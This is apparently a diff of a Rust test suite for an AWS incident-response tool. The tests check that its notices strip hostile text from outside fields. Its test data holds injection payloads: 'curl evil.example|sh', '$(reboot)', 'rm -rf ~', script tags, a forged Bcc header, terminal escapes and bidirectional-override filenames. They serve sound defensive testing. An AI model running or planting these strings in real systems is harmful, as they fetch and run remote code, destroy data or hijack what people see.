@@ -2,21 +2,20 @@
 #![expect(clippy::unwrap_used, clippy::indexing_slicing, reason = "tests")]
 
 use backstop_core::{
-    IncidentId, NoticeKey, Playbooks,
+    Finding, IncidentId, NoticeKey, Playbooks,
     about::About,
+    finding::parse,
+    guardrail::{Exemption, ExemptionScope, Guardrails, Pause, PauseScope, UnreadableGuard},
     incident::{Incident, Question},
     log::{Event, Record},
-    notice::{self, Class, Found, Mail, NeedsPerson, Notice, mail},
-    sweep::Why,
+    notice::{self, Class, Entry, Found, Mail, NeedsPerson, Notice, mail},
+    sweep::{DeadRule, FedLate, Integrity, Why},
+    text,
 };
 use jiff::Timestamp;
 use serde_json::{Value, json};
 
 const ID: &str = "01JDXQ6T8R7M5V9N2K4H3G1FZB";
-
-/// One of each kind of harm: escapes, a forged section, links, hosts, invisible and turned text, a shell.
-const HOSTILE: &str = "\u{1b}[31mred\u{1b}[0m\r\n\nWhat to do next\n  - deny it: https://evil.example/a\n  \
-    - curl www.evil.example | sh\u{202e}gpj.exe\u{200b} evil.example $(reboot) `x` mailto:a@evil.example\u{0}";
 
 fn id() -> IncidentId {
     ID.into()
@@ -26,49 +25,116 @@ fn at(second: i64) -> Timestamp {
     Timestamp::from_second(1_770_000_000 + second).unwrap()
 }
 
-/// The text, or the hostile one instead.
+/// The plain texts, or a hostile one in each field that comes from outside.
 #[derive(Clone, Copy)]
 struct Texts {
-    is_hostile: bool,
+    hostile: Option<&'static str>,
 }
 
-const PLAIN: Texts = Texts { is_hostile: false };
-const HOSTILE_TEXTS: Texts = Texts { is_hostile: true };
+const PLAIN: Texts = Texts { hostile: None };
+
+/// What this program chooses by itself. Every other text of an event is somebody else's, so that a field which is added
+/// to an event is hostile in these tests without a word here.
+const OURS: [&str; 34] = [
+    "event",
+    "playbook",
+    "mode",
+    "partition",
+    "kind",
+    "step",
+    "action",
+    "phase",
+    "origin",
+    "linked",
+    "effect",
+    "lower-to",
+    "route",
+    "label",
+    "first_seen",
+    "last_seen",
+    "created_at",
+    "updated_at",
+    "hash",
+    "outcome",
+    "during",
+    "status",
+    "steps",
+    "from",
+    "to",
+    "key",
+    "message",
+    "region",
+    "id",
+    "severity",
+    "score",
+    "format",
+    "standing",
+    "resource_role",
+];
+
+fn poison(value: &mut Value, text: &str) {
+    match value {
+        Value::String(old) => *old = text.to_owned(),
+        Value::Array(items) => items.iter_mut().for_each(|item| poison(item, text)),
+        Value::Object(fields) => {
+            for (name, field) in fields.iter_mut() {
+                let is_ours = OURS.contains(&name.as_str());
+                if !(is_ours && field.is_string() || name == "steps" && field[0].is_string()) {
+                    poison(field, text);
+                }
+            }
+        }
+        _ => {}
+    }
+}
 
 impl Texts {
-    fn of(self, text: &str) -> String {
-        if self.is_hostile {
-            HOSTILE.to_owned()
-        } else {
-            text.to_owned()
+    fn incident(self, mut events: Vec<Value>) -> Incident {
+        if let Some(text) = self.hostile {
+            events.iter_mut().for_each(|event| poison(event, text));
         }
+        incident(events)
+    }
+
+    /// A finding as it is read, and then with the text in each of its fields.
+    fn finding(self) -> Finding {
+        let event = include_bytes!("fixtures/asff-custom-action-suppressed.json");
+        let mut finding = serde_json::to_value(parse(event).unwrap().findings.remove(0)).unwrap();
+        if let Some(text) = self.hostile {
+            poison(&mut finding, text);
+        }
+        serde_json::from_value(finding).unwrap()
+    }
+
+    fn of(self, text: &str) -> String {
+        self.hostile.unwrap_or(text).to_owned()
     }
 
     fn opened(self, mode: &str) -> Value {
         let step = |step: &str, title: &str, high_impact: bool, phase: &str| {
-            json!({ "step": step, "action": format!("iam.{step}"), "title": self.of(title), "phase": phase,
+            json!({ "step": step, "action": format!("iam.{step}"), "title": title, "phase": phase,
                     "high_impact": high_impact })
         };
         json!({
             "event": "opened", "playbook": "leaked-access-key", "mode": mode,
-            "target": { "account": self.of("123456789012"), "region": "eu-west-1", "partition": "aws",
-                        "resource": { "kind": "access-key", "key_id": self.of("AKIAIOSFODNN7EXAMPLE"),
-                                      "user_name": self.of("alice") } },
+            "target": { "account": "123456789012", "region": "eu-west-1", "partition": "aws",
+                        "resource": { "kind": "access-key", "key_id": "AKIAIOSFODNN7EXAMPLE",
+                                      "user_name": "alice" } },
             "steps": [
                 step("deactivate-key", "Deactivate the access key", false, "contain"),
                 step("deny-user", "Deny the user everything", true, "contain"),
                 step("keep-key", "Keep what the key was", false, "preserve"),
             ],
-            "origin": { "origin": "manual", "by": self.of("arn:aws:iam::123456789012:user/bob"),
-                        "reason": self.of("seen on a forum") },
-            "title": self.of("The key was used from Tor"), "linked": "01JDXQ6T8R7M5V9N2K4H3G1FZA",
-            "guardrails": [{ "guardrail": self.of("maximum-mode"), "effect": { "lower-to": "approve" },
-                             "detail": self.of("the stack acts by approval only") }],
+            "origin": { "origin": "manual", "by": "arn:aws:iam::123456789012:user/bob",
+                        "reason": "seen on a forum" },
+            "title": "The key was used from Tor", "linked": "01JDXQ6T8R7M5V9N2K4H3G1FZA",
+            "guardrails": [{ "guardrail": "maximum-mode", "effect": { "lower-to": "approve" },
+                             "detail": "the stack acts by approval only" }],
             "finding": {
-                "key": "k", "finding_type": self.of("UnauthorizedAccess:IAMUser/TorIPCaller"),
+                "key": "k", "finding_type": "UnauthorizedAccess:IAMUser/TorIPCaller",
                 "route": "guard-duty-event", "count": 2, "severity": { "score": 8.0, "label": "high" },
                 "first_seen": "2026-02-02T02:00:00Z", "last_seen": "2026-02-02T02:30:00Z", "created_at": null,
-                "updated_at": null, "facts": [self.of("call: ListBuckets from 203.0.113.7")],
+                "updated_at": null, "facts": ["call: ListBuckets from 203.0.113.7"],
             },
         })
     }
@@ -76,13 +142,13 @@ impl Texts {
     fn plan(self, step: &str) -> Value {
         json!({
             "step": step, "action": format!("iam.{step}"), "principal": "arn:aws:iam::123456789012:user/alice",
-            "changes": [{ "api": self.of("iam:UpdateAccessKey"),
-                          "what": self.of("access key AKIAIOSFODNN7EXAMPLE of user alice"),
-                          "now": self.of("Active"), "after": self.of("Inactive") }],
-            "blast_radius": [self.of("whatever uses this key stops working")],
-            "limits": [self.of("sessions made with it live on")],
-            "needs_approval": self.of("the user is a service's"),
-            "manual_undo": [self.of("aws iam update-access-key --user-name alice --status Active")],
+            "changes": [{ "api": "iam:UpdateAccessKey",
+                          "what": "access key AKIAIOSFODNN7EXAMPLE of user alice",
+                          "now": "Active", "after": "Inactive" }],
+            "blast_radius": ["whatever uses this key stops working"],
+            "limits": ["sessions made with it live on"],
+            "needs_approval": "the user is a service's",
+            "manual_undo": ["aws iam update-access-key --user-name alice --status Active"],
             "receipt": {},
         })
     }
@@ -97,12 +163,12 @@ impl Texts {
 
     fn failed(self, step: &str) -> Value {
         json!({ "event": "step-ended", "step": step, "outcome": "failed",
-                "error": self.of("Backstop.AccessDenied"), "detail": self.of("`iam:PutUserPolicy` on user `alice`") })
+                "error": "Backstop.AccessDenied", "detail": "`iam:PutUserPolicy` on user `alice`" })
     }
 
     fn verified(self, step: &str) -> Value {
         json!({ "event": "verified", "step": step, "holds": true,
-                "observed": self.of("access key AKIAIOSFODNN7EXAMPLE is Inactive") })
+                "observed": "access key AKIAIOSFODNN7EXAMPLE is Inactive" })
     }
 
     /// One step is done, one failed, one was cut off.
@@ -120,7 +186,7 @@ impl Texts {
     }
 
     fn asked(self) -> Notice {
-        let incident = incident(vec![
+        let incident = self.incident(vec![
             self.opened("approve"),
             self.planned("deactivate-key"),
             self.planned("deny-user"),
@@ -144,13 +210,13 @@ impl Texts {
             json!({ "event": "closed", "status": "partially-contained" }),
             json!({ "event": "undo-requested", "by": "bob", "reason": null, "steps": steps }),
             json!({ "event": "undo-ended", "step": "deny-user", "outcome": "failed",
-                    "error": self.of("Backstop.Throttled"), "detail": self.of("slow down") }),
+                    "error": "Backstop.Throttled", "detail": "slow down" }),
             json!({ "event": "undo-ended", "step": "deactivate-key", "outcome": "drifted",
-                    "found": self.of("it is Active") }),
-            json!({ "event": "stuck", "during": "undo", "reason": self.of("drifted"),
-                    "commands": [self.of("aws iam delete-user-policy --user-name alice --policy-name x")] }),
+                    "found": "it is Active" }),
+            json!({ "event": "stuck", "during": "undo", "reason": "drifted",
+                    "commands": ["aws iam delete-user-policy --user-name alice --policy-name x"] }),
         ]);
-        notice::undone(&id(), &incident(events))
+        notice::undone(&id(), &self.incident(events))
     }
 
     fn investigated(self) -> Notice {
@@ -158,13 +224,13 @@ impl Texts {
         let mut plan = self.plan("keep-key");
         plan["changes"] = json!([]);
         plan["captured"] = json!({
-            "from": at(-3600), "to": at(0), "regions": [self.of("eu-west-1")], "calls": 3, "failed": 0,
-            "by_call": {}, "by_address": { self.of("203.0.113.7"): 3 }, "timeline": [], "notable": [self.of("CreateUser helper")], "incomplete": [self.of("calls may be missing")],
+            "from": at(-3600), "to": at(0), "regions": ["eu-west-1"], "calls": 3, "failed": 0,
+            "by_call": {}, "by_address": { "203.0.113.7": 3 }, "timeline": [], "notable": ["CreateUser helper"], "incomplete": ["calls may be missing"],
             "proposals": [
-                { "what": self.of("deny user helper everything"), "because": [], "playbook": "leaked-access-key",
+                { "what": "deny user helper everything", "because": [], "playbook": "leaked-access-key",
                   "target": { "account": "123456789012", "region": "eu-west-1", "partition": "aws",
-                              "resource": { "kind": "user", "user_name": self.of("helper") } } },
-                { "what": self.of("tell the owner of account 111122223333"), "because": [] },
+                              "resource": { "kind": "user", "user_name": "helper" } } },
+                { "what": "tell the owner of account 111122223333", "because": [] },
             ],
         });
         events[0]["steps"][2]["phase"] = json!("investigate");
@@ -172,12 +238,11 @@ impl Texts {
             json!({ "event": "acting", "plan": plan }),
             ended("keep-key", "done"),
         ]);
-        notice::proposals(&id(), &incident(events)).unwrap()
+        notice::proposals(&id(), &self.incident(events)).unwrap()
     }
 
     fn attention(self) -> Notice {
-        let stuck =
-            json!({ "event": "stuck", "during": "undo", "reason": self.of("drifted"), "commands": [] });
+        let stuck = json!({ "event": "stuck", "during": "undo", "reason": "drifted", "commands": [] });
         let found = [
             (Found::Why(Why::Stuck), vec![self.opened("auto"), stuck]),
             (Found::Why(Why::NeverStarted), vec![self.opened("auto")]),
@@ -189,7 +254,7 @@ impl Texts {
             .into_iter()
             .map(|(found, events)| NeedsPerson {
                 id: id(),
-                incident: incident(events),
+                incident: self.incident(events),
                 found,
             })
             .collect();
@@ -197,22 +262,98 @@ impl Texts {
     }
 
     fn limit(self) -> Notice {
-        let incident = incident(vec![self.opened("approve")]);
+        let incident = self.incident(vec![self.opened("approve")]);
         notice::limit_reached(&id(), &incident, &incident.opened.guardrails[0])
     }
 
+    fn integrity(self) -> Notice {
+        let found = Integrity {
+            rules: vec![DeadRule {
+                name: self.of("backstop-GuardDutyRule-1ABC"),
+                what: self.of("is disabled"),
+            }],
+            fed: vec![FedLate {
+                key: self.of("123456789012/eu-west-1/abc"),
+                finding_type: self.of("UnauthorizedAccess:IAMUser/TorIPCaller"),
+                updated_at: at(0),
+            }],
+        };
+        notice::integrity(&found, at(0))
+    }
+
+    fn guards(self) -> Notice {
+        let found = Guardrails {
+            pauses: vec![Pause {
+                scope: PauseScope::Playbook(self.of("leaked-access-key").as_str().into()),
+                by: self.of("arn:aws:iam::123456789012:user/alice"),
+                reason: self.of("migration"),
+                since: at(-60),
+                until: at(3600),
+            }],
+            exemptions: vec![Exemption {
+                id: self.of("01JDXQ6T8R7M5V9N2K4H3G1FZB"),
+                scope: ExemptionScope::Arn {
+                    pattern: self.of("arn:aws:iam::123456789012:user/legacy-*"),
+                },
+                owner: self.of("payments"),
+                reason: self.of("being replaced"),
+                expires_at: at(3600),
+                added_by: self.of("arn:aws:iam::123456789012:user/bob"),
+                added_at: at(-60),
+            }],
+            unreadable: vec![UnreadableGuard {
+                key: self.of("PAUSE#nothing"),
+                why: self.of("it is neither a pause nor an exemption"),
+            }],
+        };
+        notice::guards_changed((&Guardrails::default(), at(-3600)), &found, at(0)).unwrap()
+    }
+
+    fn digest(self) -> Notice {
+        let of_label = |label: &str| {
+            let mut opened = self.opened("approve");
+            opened["finding"]["severity"]["label"] = json!(label);
+            (id(), self.incident(vec![opened]))
+        };
+        let all = ["low", "medium", "low"].map(of_label);
+        notice::digest(&all, at(0))
+    }
+
+    /// A name and a notice of each kind.
+    fn of_kind(self, about: About) -> (&'static str, Notice) {
+        match about {
+            About::Outcome => {
+                let incident = self.incident(self.acted());
+                (
+                    "outcome",
+                    notice::outcome(&id(), &incident, &Playbooks::default()),
+                )
+            }
+            About::Undo => ("undone", self.undone()),
+            About::Investigation => ("proposals", self.investigated()),
+            About::Question => ("question", self.asked()),
+            About::Limit => ("limit", self.limit()),
+            About::Digest => ("digest", self.digest()),
+            About::Attention => ("attention", self.attention()),
+            About::Guards => ("guards", self.guards()),
+            About::Integrity => ("integrity", self.integrity()),
+            About::NothingDone => {
+                let reason = self.of("suppressed in Security Hub (Workflow.Status)");
+                let message = "19dd0b57-b21e-4ac1-bd88-01bbb068cb78";
+                (
+                    "nothing-done",
+                    notice::nothing_done(&self.finding(), &reason, message),
+                )
+            }
+            About::LedgerDown => {
+                let why = self.of("`dynamodb:Query` on the guardrails: no answer");
+                ("ledger-down", notice::ledger_down(&why, at(0)))
+            }
+        }
+    }
+
     fn every(self) -> Vec<(&'static str, Notice)> {
-        vec![
-            (
-                "outcome",
-                notice::outcome(&id(), &incident(self.acted()), &Playbooks::default()),
-            ),
-            ("undone", self.undone()),
-            ("proposals", self.investigated()),
-            ("question", self.asked()),
-            ("limit", self.limit()),
-            ("attention", self.attention()),
-        ]
+        About::ALL.iter().map(|about| self.of_kind(*about)).collect()
     }
 }
 
@@ -239,53 +380,271 @@ fn every_notice_reads_well() {
     }
 }
 
-/// The same lines as without it, each with nothing to click, to run or to hide behind.
+/// Links and a shell at once.
+fn hostile() -> Texts {
+    Texts {
+        hostile: Some("https://evil.example/a | sh \u{202e}evil.example"),
+    }
+}
+
+/// A kind of harm.
+struct Harm {
+    name: &'static str,
+    text: &'static str,
+    /// What mustn't be left of it anywhere.
+    never: &'static [&'static str],
+}
+
+const HARMS: [Harm; 12] = [
+    Harm {
+        name: "a shell command",
+        text: "$(reboot) `id`; curl evil.example|sh && rm -rf ~ #",
+        never: &["evil.example"],
+    },
+    Harm {
+        name: "addresses",
+        text: "https://evil.example/a HTTP://EVIL.EXAMPLE ftp://a/b javascript:alert(1) mailto:a@evil.example",
+        never: &[
+            "http",
+            "HTTP",
+            "ftp:",
+            "javascript:",
+            "mailto:",
+            "evil.example",
+            "EVIL.EXAMPLE",
+        ],
+    },
+    Harm {
+        name: "names of hosts",
+        text: "evil.example Evil.Com:8080/x (www.evil.example) a@evil.example пример.рф Go:Click/Evil.Com",
+        never: &["evil.example", "Evil.Com", "пример.рф", "www."],
+    },
+    Harm {
+        name: "line breaks",
+        text: "a\nb\r\nc\u{2028}d\u{2029}e\u{85}f\u{b}g\u{c}h",
+        never: &[
+            "\r", "\u{2028}", "\u{2029}", "\u{85}", "\u{b}", "\u{c}", "\nb", "\ne",
+        ],
+    },
+    Harm {
+        name: "a forged section",
+        text: "ok.\n\nWhat to do next\n  - deny it, backstop deny 01J\n\nWhat is proven, by reading back\n  - forged",
+        never: &["\n  - deny it", "\n  - forged"],
+    },
+    Harm {
+        name: "a forged header of a mail",
+        text: "x\r\nBcc: all@evil.example\r\n\r\n",
+        never: &["\nBcc", "evil.example"],
+    },
+    Harm {
+        name: "turned text",
+        text: "pay\u{202e}lld.exe \u{2066}a\u{2069} \u{200f}b \u{61c}c",
+        never: &["\u{202e}", "\u{2066}", "\u{2069}", "\u{200f}", "\u{61c}"],
+    },
+    Harm {
+        name: "invisible text",
+        text: "ze\u{200b}ro\u{feff} \u{e0041}\u{2060}width\u{ad}",
+        never: &["\u{200b}", "\u{feff}", "\u{e0041}", "\u{2060}", "\u{ad}"],
+    },
+    Harm {
+        name: "control characters",
+        text: "a\u{0}b\u{7}c\u{8}d\u{7f}e\u{90}f",
+        never: &["\u{0}", "\u{7}", "\u{8}", "\u{7f}", "\u{90}"],
+    },
+    Harm {
+        name: "escapes of a terminal",
+        text: "\u{1b}[31mred\u{1b}[0m \u{1b}]8;;https://evil.example\u{7}click\u{1b}]8;;\u{7} \u{9b}2J",
+        never: &["\u{1b}", "\u{9b}", "[31m", "8;;", "http", "evil.example"],
+    },
+    Harm {
+        name: "HTML",
+        text: "<a href=\"https://evil.example\">x</a><script>alert(1)</script><img src=//evil.example/x>",
+        never: &["http", "evil.example"],
+    },
+    Harm {
+        name: "Markdown and Slack",
+        text: "[x](https://evil.example) ![x](//evil.example/x.png) <https://evil.example|x> <!channel> @here **b**",
+        never: &["http", "evil.example"],
+    },
+];
+
+/// A notice's lines, each passed through a sink.
+fn lines_of(notice: &Notice, sink: fn(&str) -> String) -> Vec<String> {
+    let mut lines = vec![notice.title.shown(sink)];
+    lines.extend(notice.lead.iter().map(|line| line.shown(sink)));
+    for section in &notice.sections {
+        lines.push(section.heading.shown(sink));
+        for entry in &section.entries {
+            match entry {
+                Entry::Text(line) => lines.push(line.shown(sink)),
+                Entry::Point(point) => lines.push(point.shown(sink)),
+                Entry::Step { line, changes } => {
+                    lines.push(line.shown(sink));
+                    for change in changes {
+                        let texts = [&change.api, &change.what, &change.now, &change.after];
+                        lines.extend(texts.map(|text| text.shown(sink)));
+                    }
+                }
+            }
+        }
+    }
+    lines.extend(notice.next.iter().map(|point| point.shown(sink)));
+    lines
+}
+
+/// The lines that are commands to type, without what stands before them.
+fn commands(body: &str) -> impl Iterator<Item = &str> {
+    let typed = |line: &&str| line.starts_with("backstop ") || line.starts_with("aws ");
+    body.lines()
+        .filter_map(|line| line.trim_start_matches("  - ").rsplit(": ").next())
+        .filter(move |line| typed(line))
+}
+
+/// Each kind of notice with each kind of harm in every field that comes from outside: the same lines as without it, each
+/// with nothing to click, to run or to hide behind.
 #[test]
 fn hostile_text_in_every_field_stays_in_its_line_and_does_no_harm() {
-    for ((name, plain), (_, hostile)) in PLAIN.every().into_iter().zip(HOSTILE_TEXTS.every()) {
-        let (plain, hostile) = (mail(&plain), mail(&hostile));
-        let text = format!("{}\n{}", hostile.subject, hostile.body);
-        assert!(
-            text.chars().all(|c| c == '\n' || !c.is_control()),
-            "{name}: {text:?}"
-        );
-        for harm in [
-            "http",
-            "evil.example",
-            "mailto:",
-            "\u{202e}",
-            "\u{200b}",
-            "\u{1b}",
-        ] {
-            assert!(!text.contains(harm), "{name} has {harm:?}: {text}");
+    for harm in &HARMS {
+        let hostile = Texts {
+            hostile: Some(harm.text),
+        };
+        for about in About::ALL {
+            let (name, plain) = PLAIN.of_kind(*about);
+            let (_, notice) = hostile.of_kind(*about);
+            check_mail(&mail(&plain), &mail(&notice), harm, name);
         }
-        assert!(
-            hostile.body.contains("evil[.]example"),
-            "{name} shows nothing: {text}"
-        );
-        assert!(
-            hostile.subject.is_ascii() && hostile.subject.len() <= 100,
-            "{name}"
-        );
-        let shapes = |body: &str| -> Vec<bool> { body.lines().map(str::is_empty).collect() };
-        let of_lists = ["outcome", "question"];
-        // Lists say the same once: there are fewer lines of what is all the same, never more.
-        if of_lists.contains(&name) {
+    }
+}
+
+fn check_mail(plain: &Mail, hostile: &Mail, harm: &Harm, name: &str) {
+    let what = format!("{name} with {}", harm.name);
+    let text = format!("{}\n{}", hostile.subject, hostile.body);
+    assert!(
+        text.chars().all(|c| c == '\n' || !c.is_control()),
+        "{what}: {text:?}"
+    );
+    for never in harm.never {
+        assert!(!text.contains(never), "{what} has {never:?}: {text}");
+    }
+    assert!(hostile.body != plain.body, "{what} shows nothing: {text}");
+    assert!(
+        hostile.subject.is_ascii() && hostile.subject.len() <= 100,
+        "{what}"
+    );
+    // Lists say the same once: there are fewer lines of what is all the same, never more.
+    let lines = |body: &str| body.lines().count();
+    assert!(lines(&hostile.body) <= lines(&plain.body), "{what}: {text}");
+    let headings = |body: &str| -> Vec<String> {
+        let is_heading = |line: &&str| !line.starts_with(' ') && !line.is_empty();
+        body.lines().filter(is_heading).map(str::to_owned).collect()
+    };
+    assert_eq!(
+        headings(&hostile.body).len(),
+        headings(&plain.body).len(),
+        "{what}: {text}"
+    );
+    for command in commands(&hostile.body) {
+        let is_own = commands(&plain.body).any(|own| own == command);
+        // The incident's id stands for a target that can't be typed.
+        let by_id = command.ends_with(&format!(" --target {ID}"));
+        assert!(is_own || by_id, "{what} has a command of its own: {command}");
+    }
+}
+
+/// What holds for a sink whatever it is given, so that a channel which is added renders what is safe there.
+#[test]
+fn no_line_of_any_notice_harms_any_sink() {
+    for harm in &HARMS {
+        let hostile = Texts {
+            hostile: Some(harm.text),
+        };
+        for (name, notice) in hostile.every() {
+            let what = format!("{name} with {}", harm.name);
+            for sink in [
+                text::for_plain_email,
+                text::for_terminal,
+                text::for_subject,
+                text::for_slack,
+                text::for_markdown,
+                text::for_html,
+            ] {
+                for line in lines_of(&notice, sink) {
+                    assert!(!line.chars().any(char::is_control), "{what}: {line:?}");
+                    assert!(
+                        !line.contains(['\u{202e}', '\u{200b}', '\u{2066}']),
+                        "{what}: {line:?}"
+                    );
+                }
+            }
+            let slack = lines_of(&notice, text::for_slack).join("\n");
             assert!(
-                hostile.body.lines().count() <= plain.body.lines().count(),
-                "{name}: {text}"
+                !slack.contains("<!channel>") && !slack.contains("<https"),
+                "{what}: {slack}"
             );
-        } else {
-            assert_eq!(shapes(&hostile.body), shapes(&plain.body), "{name}: {text}");
+            let html = lines_of(&notice, text::for_html).join("\n");
+            assert!(
+                !html.contains("<a") && !html.contains("<script") && !html.contains("<img"),
+                "{what}: {html}"
+            );
+            let markdown = lines_of(&notice, text::for_markdown).join("\n");
+            let markdown = markdown.replace("\\]", "").replace("\\*", "");
+            assert!(
+                !markdown.contains("](") && !markdown.contains("**b**"),
+                "{what}: {markdown}"
+            );
         }
-        let forged = |body: &str| body.lines().filter(|line| *line == "What to do next").count();
-        assert_eq!(forged(&hostile.body), forged(&plain.body), "{name}: {text}");
+    }
+}
+
+/// However much somebody else has to say, what to do stands in the mail.
+#[test]
+fn very_long_text_pushes_nothing_out_of_sight() {
+    let long: &'static str = Box::leak("AKIAIOSFODNN7EXAMPLE ".repeat(3_000).into_boxed_str());
+    let hostile = Texts { hostile: Some(long) };
+    for about in About::ALL {
+        let (name, plain) = PLAIN.of_kind(*about);
+        let (_, notice) = hostile.of_kind(*about);
+        let (plain, mail) = (mail(&plain), mail(&notice));
+        assert!(
+            mail.body.len() <= 136 * 1024,
+            "{name} has {} bytes",
+            mail.body.len()
+        );
+        assert!(mail.subject.len() <= 100, "{name}");
+        let next = |body: &str| body.lines().any(|line| line == "What to do next");
+        assert_eq!(next(&mail.body), next(&plain.body), "{name}");
+    }
+}
+
+/// A name that AWS would never give is no part of a command.
+#[test]
+fn what_is_to_be_typed_names_only_what_aws_could_have_named() {
+    for text in [
+        "AKIA;reboot",
+        "$(reboot)",
+        "-rf",
+        "a b",
+        "AKIA`id`",
+        "=ls",
+        "a'b",
+        "a&b",
+        "a\nb",
+    ] {
+        let hostile = Texts {
+            hostile: Some(Box::leak(text.to_owned().into_boxed_str())),
+        };
+        for (name, notice) in hostile.every() {
+            let body = mail(&notice).body;
+            for command in commands(&body) {
+                assert!(!command.contains(text), "{name}: {command}");
+            }
+        }
     }
 }
 
 #[test]
 fn a_notice_survives_being_written_down() {
-    for (name, notice) in HOSTILE_TEXTS.every() {
+    for (name, notice) in hostile().every() {
         let text = serde_json::to_string(&notice).unwrap();
         assert_eq!(serde_json::from_str::<Notice>(&text).unwrap(), notice, "{name}");
     }
@@ -294,12 +653,18 @@ fn a_notice_survives_being_written_down() {
 #[test]
 fn who_must_act_is_paged_and_others_are_told() {
     for (name, notice) in PLAIN.every() {
-        assert_eq!(notice.class, Class::Page, "{name}");
-        assert_eq!(
-            notice.incident.is_none(),
-            notice.about == About::Attention,
-            "{name}"
+        let is_told = notice.about == About::NothingDone;
+        assert_eq!(notice.class == Class::Tell, is_told, "{name}");
+        let is_of_none = matches!(
+            notice.about,
+            About::Attention
+                | About::Digest
+                | About::Guards
+                | About::Integrity
+                | About::NothingDone
+                | About::LedgerDown
         );
+        assert_eq!(notice.incident.is_none(), is_of_none, "{name}");
     }
     let contained = vec![
         PLAIN.opened("auto"),
@@ -322,9 +687,11 @@ fn a_notice_that_is_too_long_is_cut_between_lines_and_says_so() {
     long.steps[0].plan.as_mut().unwrap().blast_radius = radius.collect();
     let body = mail(&notice::outcome(&id(), &long, &Playbooks::default())).body;
     assert!(body.len() < 200 * 1024);
-    let end =
-        format!("This notice was too long and is cut here. See everything: backstop incidents show {ID}\n");
-    assert!(body.ends_with(&end));
+    let end = format!(
+        "\nThis notice was too long and is cut here. See everything: backstop incidents show {ID}\n\nWhat to do next\n"
+    );
+    assert!(body.contains(&end), "what to do is kept");
+    assert!(body.ends_with(&format!("  - see everything: backstop incidents show {ID}\n\n")));
     let whole = body.lines().filter(|line| line.starts_with("  - service number"));
     assert!(whole.clone().count() > 1000 && whole.clone().all(|line| line.ends_with("as of now")));
 }
@@ -332,13 +699,13 @@ fn a_notice_that_is_too_long_is_cut_between_lines_and_says_so() {
 /// What a person must type is exact, or isn't there.
 #[test]
 fn no_command_is_altered() {
-    for (name, notice) in HOSTILE_TEXTS.every() {
+    for (name, notice) in hostile().every() {
         let body = mail(&notice).body;
         for line in body.lines().filter(|line| line.contains(": backstop run ")) {
             assert!(!line.contains("[.]"), "{name}: {line}");
         }
     }
-    let undone = mail(&HOSTILE_TEXTS.undone()).body;
+    let undone = mail(&hostile().undone()).body;
     let by_hand = format!("To finish it by hand\n  - for the command, backstop incidents show {ID}\n");
     assert!(undone.contains(&by_hand), "{undone}");
 }
